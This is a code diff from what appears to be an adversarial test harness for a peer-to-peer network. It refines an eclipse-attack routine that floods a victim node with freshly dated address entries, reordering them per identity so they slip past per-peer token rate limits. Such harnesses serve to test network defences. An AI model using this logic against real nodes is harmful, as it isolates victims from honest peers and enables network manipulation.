@@ -140,11 +140,22 @@ async function begin(ctx: AttackContext): Promise<EclipseState | undefined> {
   return { victimAddr, victim, peers, entries, addrSent: 0 };
 }
 
-/** Sends `state.entries` (freshly dated) to the victim on a new addr stream from `peer`. */
+/**
+ * Sends `state.entries` (freshly dated) to the victim on a new addr stream from `peer`, its own
+ * address first (a self-announcement, the one entry a new peer's token covers), then the rest from a
+ * rotating offset, so the few entries each identity's tokens admit differ from identity to identity.
+ */
 async function advertise(ctx: AttackContext, state: EclipseState, peer: SpawnedPeer): Promise<void> {
   const now = Date.now();
+  const others = state.entries.filter((e) => e.peerId !== peer.peerId);
+  const offset = (state.addrSent * 7) % Math.max(1, others.length);
+  const ordered = [
+    ...state.entries.filter((e) => e.peerId === peer.peerId),
+    ...others.slice(offset),
+    ...others.slice(0, offset),
+  ];
   const stream = await peer.open(state.victim, ctx.wire.protocols.addr);
-  stream.write(frame(encodeAddrRequest(state.entries.map((e) => ({ ...e, lastSeen: now })))));
+  stream.write(frame(encodeAddrRequest(ordered.map((e) => ({ ...e, lastSeen: now })))));
   stream.close();
   state.addrSent++;
 }
